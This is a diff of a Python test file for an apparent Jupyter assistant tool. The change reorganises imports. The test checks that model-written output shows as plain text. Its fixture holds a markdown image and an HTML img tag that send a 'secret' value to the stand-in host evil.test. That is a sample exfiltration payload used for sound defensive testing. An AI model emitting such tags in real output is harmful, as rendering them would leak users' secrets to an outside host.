@@ -346,7 +346,8 @@ def test_assist_flow_run_local_asks_for_env_and_reaches_only_allowed_hosts(
 def test_a_flow_result_shows_model_text_as_text():
     """A model-written spec and run output holding a fence, an image and raw HTML: the flow card
     (HTML in a notebook, text in a terminal) shows them as text, nothing that loads or links."""
-    from lfassist_jupyter.core.result import AssistResult, FlowOutcome
+    from lfassist_jupyter.core.outcome import FlowOutcome
+    from lfassist_jupyter.core.result import AssistResult
     from lfassist_jupyter.sandbox.answers import RealRun
 
     spec = QA_SPEC + "# ```\n# ![x](http://evil.test/?k=secret) <img src=http://evil.test/y>\n# ````` ~~~\n"
